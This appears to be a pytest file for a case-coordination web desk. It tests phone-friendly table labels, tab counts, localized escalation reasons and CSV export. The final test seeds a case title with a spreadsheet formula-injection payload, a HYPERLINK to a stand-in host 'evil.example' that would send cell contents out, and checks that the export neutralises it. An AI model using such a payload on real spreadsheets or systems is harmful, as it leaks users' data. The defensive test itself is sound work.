"""The desk as the sprint 11 browser walk left it (lane walk12), each test failing before: the queue's cells
labelled (one card per case on a phone), a count on every tab, the scheduler's escalation reason in the reader's
language, English exports whose labels start with a capital, formulas neutralised in the CSV export too."""

from __future__ import annotations

import csv
import io
import re

from coordination.test_api import client_for, desk, file  # noqa: F401  (the fixture)
from sqlalchemy import event, select

from chainkeeper.config import get_settings
from chainkeeper.coordination import queries
from chainkeeper.coordination.models import Case
from chainkeeper.coordination.notify import notify_case
from chainkeeper.db import unit_of_work
from chainkeeper.notifications.models import Notification

TABS = re.compile(r'<li><a href="(/desk\?[^"]+)">([^<]+) <span class="count">(\d+)</span></a></li>')


def english(client):
    client.cookies.set("ck_lang", "en")
    return client


def test_every_queue_cell_says_which_column_it_is_so_the_table_reads_as_cards_on_a_phone(desk):
    file(desk)
    page = english(client_for(desk, "suzhou")).get("/desk").text
    assert '<table class="data cards" data-testid="case-table">' in page  # app.css: table.cards, one card per row
    row = re.search(r"<tr[^>]*data-case=\"\d+\">(.*?)</tr>", page, re.S).group(1)
    cells = re.findall(r"<td([^>]*)>", row)
    labels = re.findall(r'data-label="([^"]+)"', row)
    headings = re.findall(r'<th scope="col">(?:<span class="visually-hidden">)?([^<]+)<', page)
    assert len(labels) == len(cells) == len(headings) == 10 and labels == headings
    assert labels[:3] == ["Select", "Ledger no.", "Title"]


def test_the_open_and_overdue_tabs_count_their_cases_like_the_state_tabs(desk):
    first, _second, _third = file(desk), file(desk), file(desk)
    with unit_of_work(desk.engine) as session:
        session.get(Case, first["id"]).overdue = True
    for username in ("ministry", "suzhou", "oem"):  # from the counters; an enterprise's scope: one grouped query
        client = client_for(desk, username)
        tabs = {href: int(count) for href, _label, count in TABS.findall(client.get("/desk").text)}
        assert tabs["/desk?state=open"] == 3 and tabs["/desk?overdue=1"] == 1, username
        for href, count in tabs.items():  # each tab's count is what its queue lists
            assert client.get(href).text.count('data-case="') == count, (username, href)


def test_the_tabs_counts_read_no_case_row_where_the_counters_cover_the_scope(desk):
    file(desk)
    statements: list[str] = []
    ministry = desk.caller("ministry").principal

    def seen(_conn, _cursor, statement, *_args):
        statements.append(statement)

    with unit_of_work(desk.engine) as session:
        event.listen(desk.engine, "before_cursor_execute", seen)
        try:
            counts = queries.tab_counts(session=session, principal=ministry)
        finally:
            event.remove(desk.engine, "before_cursor_execute", seen)
    assert counts["open"] == counts["submitted"] == 1 and counts["overdue"] == 0
    reads = [statement for statement in statements if statement.lstrip().upper().startswith("SELECT")]
    assert len(reads) == 1 and "desk_case_count" in reads[0] and not re.search(r"\bdesk_case\b", reads[0])


def test_a_time_limit_escalation_gives_its_reason_in_the_readers_language(desk, monkeypatch):
    case = file(desk)
    with unit_of_work(desk.engine) as session:  # as the scheduler stored it, on old rows too
        session.get(Case, case["id"]).reason = "time limit breached"
    suzhou = client_for(desk, "suzhou")
    chinese = suzhou.get(f"/desk/cases/{case['id']}").text
    assert "超过办理时限" in chinese and "time limit breached" not in chinese
    page = english(suzhou).get(f"/desk/cases/{case['id']}").text
    assert "<dd class=\"prose\">Time limit breached</dd>" in page and "time limit breached" not in page
    monkeypatch.setenv("CHAINKEEPER_SMTP_HOST", "127.0.0.1")
    get_settings.cache_clear()
    try:
        with unit_of_work(desk.engine) as session:
            notify_case(session=session, case=session.get(Case, case["id"]), kind="escalate",
                        reason="time limit breached")
        with unit_of_work(desk.engine) as session:
            subjects = session.scalars(select(Notification.subject).where(Notification.subject.is_not(None))).all()
    finally:
        get_settings.cache_clear()
    assert subjects and all(subject.endswith("已提级协调：超过办理时限") for subject in subjects)


def test_english_exports_label_their_cells_with_a_capital_and_neutralise_formulas(desk):
    file(desk, title='=HYPERLINK("http://evil.example/?d="&A2,"click")')
    ministry = english(client_for(desk, "ministry"))
    rows = list(csv.reader(io.StringIO(ministry.get("/desk/export", params={"format": "csv"}).content.decode(
        "utf-8-sig"))))
    heading, row = rows[0], dict(zip(rows[0], rows[1]))
    assert heading[:2] == ["Ledger no.", "Submitted"]
    assert row["Title"].startswith("'=HYPERLINK")
    assert (row["Category"], row["Handling level"], row["State"], row["Overdue"]) == (
        "Supplier restart / parts supply", "City", "Submitted", "No")
